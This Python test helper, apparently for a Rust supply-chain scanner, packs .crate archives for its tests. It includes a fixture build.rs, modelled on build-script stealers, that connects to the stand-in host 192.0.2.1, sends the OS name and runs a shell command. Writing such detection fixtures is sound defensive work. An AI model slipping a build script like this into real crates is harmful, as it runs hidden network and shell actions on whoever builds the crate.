"""Building ``.crate`` archives for the screening's tests, as crates.io serves them."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import tomli

from tests.scan.test_diff import crate_archive, manifest

INCIDENTS = Path(__file__).resolve().parents[1] / "scan" / "incidents"
T0 = dt.datetime(2026, 6, 1, 12, 0, tzinfo=dt.UTC)

LIB = b"""//! A small parser.

/// Parses a number.
pub fn parse(text: &str) -> Option<u32> {
    text.trim().parse().ok()
}
"""

# Modelled on the 2023 build-script stealers: report the host, then run a program.
NETWORK_BUILD_RS = b"""use std::io::Write;
use std::net::TcpStream;
use std::process::Command;

fn main() {
    if let Ok(mut stream) = TcpStream::connect("192.0.2.1:443") {
        let _ = stream.write_all(std::env::consts::OS.as_bytes());
    }
    let _ = Command::new("sh").arg("-c").arg("true").status();
}
"""


# ``<name>-<version>.crate`` as crates.io serves it, and a manifest: the diff tests' own
pack = crate_archive


def directory_files(directory: Path) -> dict[str, bytes]:
    return {
        p.relative_to(directory).as_posix(): p.read_bytes()
        for p in sorted(directory.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def pack_directory(directory: Path, dest: Path) -> tuple[Path, str, str]:
    """A crate directory as the ``.crate`` its manifest names; the path, name and version
    (a workspace's root, which names no package, by its folder and workspace version)."""
    manifest = tomli.loads((directory / "Cargo.toml").read_text(encoding="utf-8"))
    workspace = manifest.get("workspace", {}).get("package", {})
    package = manifest.get("package", {"name": directory.name})
    name, version = package["name"], package.get("version", workspace.get("version", "0.0.0"))
    return pack(dest / f"{name}-{version}.crate", directory_files(directory)), name, version


def simple_crate(
    dest: Path, name: str, version: str, body: str = "", files: dict[str, bytes] | None = None
) -> Path:
    """A small library crate; ``files`` adds or replaces files."""
    every = {"Cargo.toml": manifest(name, version, body), "src/lib.rs": LIB, **(files or {})}
    return pack(dest / f"{name}-{version}.crate", every)
